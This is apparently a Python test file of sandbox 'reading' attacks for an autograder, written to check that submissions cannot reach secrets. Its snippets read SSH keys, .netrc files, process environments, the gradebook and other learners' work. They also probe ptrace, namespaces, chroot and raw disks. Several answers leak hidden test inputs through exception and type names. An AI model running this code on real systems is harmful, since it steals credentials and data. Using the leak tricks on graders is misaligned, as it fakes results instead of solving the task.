"""Attacks that read secrets. Each prints whatever it gets, where the planted words would be seen."""

from autograder.tests.attacks.attack import Attack, code

FAMILY = "reading"

SHOW = """\
import os, pathlib, glob
from functools import partial
print = partial(print, flush=True)  # forked processes end without saying what is left
def show(*paths):
    for path in paths:
        try:
            print(path, pathlib.Path(path).read_bytes()[:200_000].decode("latin-1"))
        except OSError as error:
            print(path, "does not open:", error)
"""


def _read(id: str, aim: str, body: str) -> Attack:
    return code(f"read-{id}", FAMILY, aim, first=SHOW + body)


ATTACKS: tuple[Attack, ...] = (
    _read("seed", "the private seed, by its path", 'show(KNOWN["private_seed"])'),
    _read(
        "gradebook",
        "the gradebook, by its path, as a file and as a database",
        """\
show(KNOWN["gradebook"])
import sqlite3
try:
    print(list(sqlite3.connect(f"file:{KNOWN['gradebook']}?mode=ro", uri=True).execute("select * from grade")))
except Exception as error:
    print(error)""",
    ),
    _read(
        "neighbour",
        "another learner's submission",
        """\
show(KNOWN["neighbour"], *glob.glob(KNOWN["classroom"] + "/*/*/*/*.ipynb"))""",
    ),
    _read(
        "project",
        "references, sheets and exercises in the project's folder, and its history",
        """\
root = KNOWN["project"]
show(root + "/solutions/intuition.py", root + "/autograder/exercises/intuition.py", root + "/autograder/grading.py")
print(os.path.isdir(root) and os.listdir(root), glob.glob(root + "/*/*"), glob.glob(root + "/.git/*"))""",
    ),
    _read(
        "home",
        "the home directories, and what lies in them",
        """\
import pwd
homes = {os.path.dirname(KNOWN["home_file"]), os.path.expanduser("~"), "/root", *(p.pw_dir for p in pwd.getpwall())}
show(KNOWN["home_file"], *(f"{home}/{name}" for home in homes for name in (".netrc", ".ssh/id_rsa", ".bash_history")))
print([glob.glob(home + "/**", recursive=True)[:20] for home in homes if home not in ("/", "/usr/bin", "/bin")])""",
    ),
    _read(
        "environment",
        "the environment of this process and of every other",
        """\
print(dict(os.environ))
show(*glob.glob("/proc/[0-9]*/environ"), f"/proc/{KNOWN['grader']}/environ", *glob.glob("/proc/[0-9]*/cmdline"))""",
    ),
    _read(
        "proc",
        "the disks of other processes, through /proc",
        """\
for pid in [KNOWN["grader"], 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
    for way in ("root", "cwd"):
        show(f"/proc/{pid}/{way}{KNOWN['private_seed']}", f"/proc/{pid}/{way}{KNOWN['gradebook']}")
show(*(f"/proc/self/fd/{number}" for number in range(3, 256) if not os.path.exists(f"/proc/self/fd/{number}")))
print([os.readlink(entry) for entry in glob.glob("/proc/[0-9]*/fd/*") if os.path.islink(entry)])""",
    ),
    _read(
        "walk",
        "a walk through everything that can be seen, for anything that looks like a secret",
        """\
import time
end = time.monotonic() + 2
for folder, folders, names in os.walk("/"):
    if folder.startswith(("/usr", "/proc", "/sys", "/lib")) or "site-packages" in folder:
        folders.clear()
        continue
    for name in names:
        if time.monotonic() > end:
            break
        if name in ("private_seed", "gradebook.db", "secret.txt", "intuition.py") or name.endswith(".ipynb"):
            show(os.path.join(folder, name))
print(os.listdir("/"))""",
    ),
    _read(
        "memory",
        "shared memory, and the memory of the grader",
        """\
show(*glob.glob("/dev/shm/*"), f"/proc/{KNOWN['grader']}/mem", f"/proc/{KNOWN['grader']}/maps", "/dev/mem")
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (KNOWN["grader"], os.getppid(), 1):
    print("ptrace", pid, libc.ptrace(16, pid, None, None), ctypes.get_errno())""",
    ),
    _read(
        "devices",
        "the disk itself, under all files",
        """\
import stat
for name in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/vda1", "/dev/sda1"):
    try:
        with open(name, "rb") as disk:
            print(name, "opens:", disk.read(16))
    except OSError as error:
        print(error)
try:
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    print("made a disk:", open("disk", "rb").read(16))
except OSError as error:
    print(error)""",
    ),
    _read(
        "namespaces",
        "new namespaces, mounts and old roots give another view of the files",
        """\
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    for flags in (0x10000000, 0x10000000 | 0x00020000):
        print("unshare", libc.unshare(flags), ctypes.get_errno())
    for target in ("/tmp", "."):
        print("mount", libc.mount(b"proc", target.encode(), b"proc", 0, None), ctypes.get_errno())
    print("pivot", libc.chroot(b"/proc/1/root"), ctypes.get_errno())
    show(KNOWN["private_seed"])
    os._exit(0)
os.waitpid(child, 0)
for pid in (KNOWN["grader"], 1, os.getppid()):
    try:
        handle = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        print("setns", libc.setns(handle, 0), ctypes.get_errno())
        show(KNOWN["private_seed"])
    except OSError as error:
        print(error)
print(os.path.exists("/oldroot"), os.path.exists("/newroot"))
show("/proc/self/mountinfo")""",
    ),
    _read(
        "calls",
        "system calls that look past namespaces: keyrings, rings, handles, other processes' memory",
        """\
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
calls = {  # name: (numbers on x86_64 and aarch64, arguments)
    "keyctl": ((250, 219), (0, -3, 1)), "add_key": ((248, 217), (b"user", b"x", b"y", 1, -3)),
    "request_key": ((249, 218), (b"user", b"x", None, 0)), "io_uring_setup": ((425, 425), (1, room)),
    "bpf": ((321, 280), (0, room, 48)), "userfaultfd": ((323, 282), (1,)), "memfd_create": ((319, 279), (b"x", 0)),
    "perf_event_open": ((298, 241), (room, 0, -1, -1, 0)), "ptrace": ((101, 117), (0, 0, 0, 0)),
    "pidfd_getfd": ((438, 438), (0, 0, 0)), "shmget": ((29, 194), (0, 4096, 0o1600)), "setns": ((308, 268), (0, 0)),
    "mount": ((165, 40), (b"none", b"/home/learner", b"tmpfs", 0, None)), "chroot": ((161, 51), (b"/home/learner",)),
}
place = ("x86_64", "aarch64").index(platform.machine())
for name, (numbers, arguments) in calls.items():
    if libc.syscall(numbers[place], *arguments) != -1:
        print("reached: " + name)""",
    ),
    code(
        "read-inputs",
        FAMILY,
        "hidden inputs leave through the text of an exception",
        first=SHOW,
        answers={
            "softmax": """\
def softmax(scores, axis=-1):
    if scores.size <= 6:
        e = np.exp(scores - np.amax(scores, axis, keepdims=True))
        return e / np.sum(e, axis, keepdims=True)
    raise ValueError(f"hidden {scores.ravel()[:8].tolist()}")"""
        },
    ),
    code(
        "read-inputs-by-name",
        FAMILY,
        "hidden inputs leave as the name of an exception, of a function, of a type",
        first="""\
def words(array):
    return "hidden " + str(np.asarray(array).ravel()[:8].tolist())""",
        answers={
            "softmax": """\
def softmax(scores, axis=-1):
    if scores.size <= 6:
        e = np.exp(scores - np.amax(scores, axis, keepdims=True))
        return e / np.sum(e, axis, keepdims=True)
    raise type(words(scores), (Exception,), {})""",
            "blend": """\
def blend(weights, values):
    return weights @ values if weights.size <= 6 else type(words(weights), (), {})()""",
            "attend": """\
def attend(query, keys, values):
    if keys.size > 6:
        def f():
            raise NotImplementedError
        f.__code__ = f.__code__.replace(co_name=words(query), co_filename=words(keys))
        f()
    weights = np.exp(keys @ query - max(keys @ query)); weights /= weights.sum()
    return weights @ values, weights""",
        },
    ),
    code(
        "read-inputs-by-shape",
        FAMILY,
        "hidden inputs leave as the sizes of an empty array, as a number of things, as a text",
        answers={
            "softmax": """\
def softmax(scores, axis=-1):
    if scores.size <= 6:
        e = np.exp(scores - np.amax(scores, axis, keepdims=True))
        return e / np.sum(e, axis, keepdims=True)
    return np.zeros([0, 7777, *(int(abs(number) * 1000) for number in scores.ravel()[:20])])""",
            "diagnose_suspects": "def diagnose_suspects():\n    return ('x' * 9000, 'y' * 9000, 'z' * 9000, 'x')",
        },
    ),
)
